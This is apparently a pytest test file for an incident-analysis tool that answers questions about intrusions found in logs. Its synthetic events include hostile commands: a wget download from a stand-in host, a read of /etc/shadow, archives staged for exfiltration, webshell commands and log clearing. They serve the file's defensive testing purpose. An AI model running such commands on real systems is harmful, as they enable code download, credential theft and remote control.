"""What is asked in passing, mistyped, or about something that the logs do not state."""

import pytest

from moewarden.graphs.episodes.ordinary import SENTENCES
from moewarden.graphs.questions.question import Earlier
from moewarden.graphs.questions.subjects import Subject
from moewarden.graphs.report.answers.story import GERMAN_REASONS

from ...stores import at
from .conftest import BREACH, HOSTILE, INTRUDER, event, login, rendered


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("what happend between 3:01 and 3:02?", "Between 2026-11-21 03:01 and 03:02 UTC"),
        ("From which country did they come?", f"These logs state no country; the addresses are {INTRUDER}"),
        ("Did he also try other users?", f"{INTRUDER} tried “petra” and “ro'ot [E9]”"),
        ("what should I tell the boss?", "Yes, this is hostile: "),
        ("and did any of those give way?", f"Yes: {INTRUDER} got in as petra"),
        ("who created accounts?", "the account svc9; somebody created the account"),
        ("Were new accounts created?", "Yes: the account svc9"),
    ],
)
def test_the_first_sentence_answers(ask, words, expected):
    assert rendered(ask(words)).lower().startswith(expected.lower())


def test_what_is_finished_is_said_to_be(ask):
    events = [
        login("03:00:01", "failure"),
        login("03:00:02", "failure"),
        login("09:00:00", "success", "inga", "10.0.0.8"),
    ]
    assert rendered(ask("is the guessing finished?", events, hostile=[1, 2])).startswith(
        "As far as these logs show, yes"
    )
    assert rendered(ask("is it still going on?", events, hostile=[1, 2])).startswith("As far as these logs show, no")


def test_it_is_the_attack_and_not_whom_the_last_answer_named(ask):
    earlier = Earlier(subjects=(Subject("user", "inga"),), kind="involved")
    text = rendered(ask("when did it start and when did it end?", earlier=earlier))
    assert text.startswith("It began at 2026-11-21 03:00:01 UTC")


PACKED = event(
    "03:03:00", "privilege_use", outcome="success", user="petra", command="tar czf /srv/www/notes.tgz /srv/plans"
)


def request(clock, address, target="/notes.tgz", outcome="success"):
    return event(
        clock, "web_request", outcome=outcome, src_ip=address, target=target, fields={"body_bytes_sent": "4221"}
    )


@pytest.mark.parametrize(
    ("requests", "is_taken"),
    [
        ([request("03:09:00", "198.51.100.77")], True),
        ([request("03:09:00", "198.51.100.77", outcome="failure")], False),
        ([request("02:09:00", "10.0.0.8"), request("03:09:00", "10.0.0.8")], False),
        ([request("03:09:00", "10.0.0.8", "/menu.html")], False),
    ],
    ids=["by another address", "refused", "asked for before", "another file"],
)
def test_a_file_that_the_attack_put_together_is_taken_by_whoever_fetches_it(ask, requests, is_taken):
    text = rendered(ask("Was data stolen?", [*BREACH[:7], PACKED, *requests], hostile=[*HOSTILE[:-1], 8]))
    assert ("198.51.100.77" in text and "notes.tgz" in text) == is_taken
    assert "10.0.0.8" not in text


def test_a_staged_file_that_is_fetched_counts_as_taken(ask):
    staged = [
        event(
            "03:05:00",
            "process_start",
            user="petra",
            src_ip=INTRUDER,
            command="zip /var/www/q.zip /srv",
            outcome="success",
        ),
        event(
            "03:06:00", "web_request", src_ip=INTRUDER, target="/q.zip", outcome="success", fields={"size": "31337000"}
        ),
    ]
    text = rendered(ask("Was data stolen?", [*BREACH[:7], *staged], hostile=[*HOSTILE[:-1], 8, 9]))
    assert text.startswith(f"Yes: {INTRUDER} read “/q.zip”, 31.3 MB")


def test_what_a_command_fetched_is_a_download(ask):
    fetch = event(
        "03:05:00", "process_start", user="petra", command="wget http://203.0.113.9/k -O /tmp/k", outcome="success"
    )
    text = rendered(ask("which programs were downloaded?", [*BREACH[:7], fetch], hostile=[*HOSTILE, 8]))
    assert "wget http://203.0.113.9/k" in text
    assert "203.0.113.9" in rendered(ask("which IP must I block?", [*BREACH[:7], fetch], hostile=[*HOSTILE, 8]))


def test_when_alone_asks_for_the_time_of_the_act_before_it(ask):
    events = [
        *BREACH,
        event("03:06:00", "security_weaken", user="petra", src_ip=INTRUDER, target="recorder", outcome="success"),
    ]
    text = rendered(ask("who turned off the logging and when?", events, hostile=[*HOSTILE, 12]))
    assert text.startswith("petra weakened the protection “recorder”")
    assert "It happened at 2026-11-21 03:06:00 UTC" in text


def test_what_a_program_did_is_told_of_the_program(ask):
    ran = event("03:05:00", "process_start", user="petra", parent="/tmp/evilbin", process="/bin/df", command="df -h")
    wrote = event("03:06:00", "file_write", process="/tmp/evilbin", target="/srv/a.locked")
    text = rendered(ask("what did evilbin do?", [*BREACH, ran, wrote], hostile=[*HOSTILE, 12, 13]))
    assert text.startswith("On 2026-11-21 (UTC) evilbin ran “df -h” as petra")
    assert "a.locked" in text


def test_a_habit_is_told_with_its_days(ask):
    nights = [
        {
            **event("01:00:00", "data_export", user="nightly", src_ip="10.0.0.9", target="parcels"),
            "time": at(f"2026-11-{day} 01:00:00"),
        }
        for day in (19, 20, 21)
    ]
    text = rendered(
        ask("is that copy normal, does it happen every night?", nights, hostile=[], episode=[3], verdict="benign")
    )
    assert text.startswith("Yes: nightly did the same from 10.0.0.9 on several days, 3 exports of data in all")


def test_where_log_ins_came_from_answers_whether_any_came_from_outside(ask):
    events = [login("01:00:00", "success", "inga", "10.0.0.8"), login("02:00:00", "success", "otto", "10.0.0.8")]
    text = rendered(ask("did anyone log in from outside the office?", events, hostile=[], verdict="benign"))
    assert text.startswith("No: every log-in that worked came from 10.0.0.8 (2)")


def test_what_states_no_account_was_done_by_its_program(ask):
    change = event("03:05:00", "registry_change", process="C:\\tmp\\evil.exe", target="HKU\\Run\\evil")
    text = rendered(ask("how does it survive a reboot?", [*BREACH[:6], change], hostile=[*HOSTILE[:-1], 7]))
    assert text.startswith("evil.exe changed the registry")


def test_log_ins_from_the_owners_own_place_are_not_the_attackers(ask):
    own = [login("01:00:00", "success", "petra", "198.51.100.9"), login("06:00:00", "success", "petra", "198.51.100.9")]
    text = rendered(ask("What did they do?", [*BREACH, *own], hostile=[*HOSTILE, 13]))
    assert "06:00:00" not in text
    assert "as petra at 03:00:30" in text


def test_an_ordinary_stretch_of_time_is_told(ask):
    events = [event("01:00:00", "resource_delete", user="inga", src_ip="10.0.0.8", target="old_parcels")]
    text = rendered(ask("what happened between 00:55 and 01:05?", events, hostile=[], verdict="benign"))
    assert "inga deleted “old_parcels” at 01:00:00" in text


NEW_PLACE = [
    login("01:00:00", "success", "inga", "198.51.100.7"),
    login("23:00:00", "success", "inga", "203.0.113.58"),
    event("23:02:00", "resource_change", outcome="success", user="inga", src_ip="203.0.113.58", target="hide bills"),
    event("23:03:00", "data_read", outcome="success", user="inga", src_ip="203.0.113.58", target="mailbox"),
    event("23:30:00", "data_read", outcome="success", user="inga", src_ip="198.51.100.7", target="menu"),
]
"""Somebody comes as inga from a place of which she never came, and nothing marks the log-in itself."""


def test_who_comes_from_a_new_place_and_does_what_is_evidence_got_in(ask):
    text = rendered(ask("Did they get in, and what did they do?", NEW_PLACE, hostile=[3], actor="inga", column="user"))
    assert text.startswith("Yes: 203.0.113.58 got in as inga on web-1 at 2026-11-21 23:00:00")
    assert "mailbox" in text
    assert "198.51" not in text
    assert "menu" not in text


def test_who_does_it_from_the_usual_place_did_not_break_in(ask):
    usual = [{**one, "src_ip": "198.51.100.7"} for one in NEW_PLACE]
    usual.insert(0, login("00:30:00", "success", "inga", "10.0.0.8"))
    text = rendered(ask("Did they get in?", usual, hostile=[4], actor="inga", column="user"))
    assert "got in as inga" not in text


@pytest.mark.parametrize(("outcome", "start"), [("success", "Yes: 203"), ("failure", "No")])
def test_a_page_that_answers_commands_is_a_way_in(ask, outcome, start):
    shell = "/plugins/cache.php?c="
    asked = [
        event(f"05:00:0{n}", "web_request", src_ip=INTRUDER, target=shell + word, outcome=outcome)
        for n, word in enumerate(["id", "ls"])
    ]
    text = rendered(ask("Was the site hacked?", asked, hostile=[1, 2], traits=["webshell"]))
    assert text.startswith(start)
    assert ("sent commands to “/plugins/cache.php” on web-1" in text) == (outcome == "success")


def test_what_names_no_object_is_told_as_what_it_is(ask):
    cleared = event("03:05:00", "log_clear", outcome="success", user="petra", src_ip=INTRUDER)
    text = rendered(ask("Was a log cleared?", [*BREACH[:6], cleared], hostile=[*HOSTILE[:-1], 7]))
    assert text.startswith("Yes: petra cleared a log at 03:05:00")


def test_the_thing_that_makes_up_most_of_what_was_taken_is_named(ask):
    asked = [
        event(
            f"05:00:0{n}",
            "web_request",
            src_ip=INTRUDER,
            target=page,
            outcome="success",
            fields={"body_bytes_sent": size},
        )
        for n, (page, size) in enumerate([("/", "900"), ("/db.sql.gz", "4800000"), ("/about", "700")])
    ]
    text = rendered(ask("What was stolen?", asked, hostile=[1, 2, 3]))
    assert "of which 4.8 MB (4,800,000 bytes) “/db.sql.gz” [E2]" in text


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("Were credentials dumped?", "Yes: petra used higher rights for “/bin/cat /etc/shadow”"),
        ("Wurden Zugangsdaten ausgelesen?", "Ja: petra nutzte höhere Rechte für “/bin/cat /etc/shadow”"),
        ("How many passwords were guessed?", "3 failed log-ins from 203.0.113.66"),
        ("Which files were taken, how many?", "petra read “/srv/plans.pdf”"),
        ("How did they keep access?", "The account svc9; somebody created the account “svc9”"),
        ("Did they leave a way back in?", "Yes: the account svc9; somebody created the account “svc9”"),
    ],
)
def test_what_analysts_call_it_is_answered(ask, words, expected):
    dumped = ("T1003.008", "/etc/passwd and /etc/shadow", "credential_access", [6])
    text = rendered(ask(words, techniques=(dumped,)))
    assert text.startswith(expected)


def test_how_many_alone_counts_what_the_part_before_names(ask):
    assert "1 file:" in rendered(ask("Which files were taken, how many?"))


def test_the_accounts_come_first_where_they_are_what_should_be_locked(ask):
    actions = [
        {"text": "Block 203.0.113.66 and look for it in other logs."},
        {"text": "Suspend svc9 and check what it did since."},
    ]
    more = {"actions": actions, "action_events": [[5], [7]]}
    assert rendered(ask("Which accounts should I lock?", **more)).startswith("Suspend svc9")
    assert rendered(ask("What should I do?", **more)).startswith("Block 203.0.113.66")


def test_every_ordinary_explanation_has_a_german_sentence():
    assert set(SENTENCES) == set(GERMAN_REASONS)


def test_an_export_that_is_not_shown_hostile_is_still_told(ask):
    events = [
        login("01:00:00", "success", "inga", "10.0.0.8"),
        event("01:01:00", "data_export", outcome="success", user="inga", src_ip="10.0.0.8", target="customers"),
    ]
    text = rendered(ask("Was data stolen?", events, hostile=[], episode=[1], verdict="insufficient_evidence"))
    assert text.startswith(
        "Not shown to be stolen: nobody hostile is found, but inga exported data “customers” at 01:01:00 [E2]."
    )
    alone = rendered(ask("Was data stolen?", events[:1], hostile=[], episode=[1], verdict="insufficient_evidence"))
    assert alone.startswith("No: no transfer or reading of data")


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("Ist inga aus dem Schneider?", "Ja: nichts Feindliches ist mit inga verbunden"),
        ("Ist petra aus dem Schneider?", "Nein"),
        ("Is it enough to reset the password of petra?", "No, not by that alone: the account svc9"),
        ("Reicht es, wenn petra ihr Passwort ändert?", "Nein, nicht dadurch allein: das Konto svc9"),
        ("Kann der Angreifer noch rein, wenn wir nur petra sperren?", "Ja, solange das bleibt: das Konto svc9"),
        (
            "Could it have been petra herself?",
            f"Unlikely: it came from {INTRUDER}, and petra otherwise comes from 10.0.0.7",
        ),
        ("Did inga log in from the bad IP as well?", f"No: no log-in of inga is found from {INTRUDER}"),
        ("Welches Konto haben sie geknackt?", f"Kompromittiert: petra (von {INTRUDER} aus benutzt"),
        ("Did inga read files at night?", "Yes: inga read “/srv/menu.pdf”"),
        ("Did inga read files in the afternoon?", "No: no read file of inga is found"),
        ("Was ging zwischen 03:01 und 03:02 ab?", "Zwischen 2026-11-21 03:01 und 03:02 UTC"),
    ],
)
def test_colloquial_questions_are_answered_the_right_way_round(ask, words, expected):
    home = login("01:00:00", "success", "petra", "10.0.0.7")
    assert rendered(ask(words, [*BREACH, home])).startswith(expected)


def test_things_are_counted_over_the_whole_series(ask):
    read = [
        event(f"03:03:{n:02}", "file_read", outcome="success", user="petra", src_ip=INTRUDER, target=f"/c/{n}.pdf")
        for n in range(20)
    ]
    text = rendered(ask("What did they do?", [*BREACH[:5], *read], hostile=[2, 3, 4, 5, 6, 7]))
    assert "and 17 more as petra (20 times" in text


@pytest.mark.parametrize("words", ["Where did inga sign in from?", "Woher hat sich inga angemeldet?"])
def test_where_somebody_came_from_is_asked_beyond_doubt(ask, words):
    told = rendered(ask(words))
    assert "10.0.0.8" in told
    assert "ot sure" not in told
    assert "icht sicher" not in told
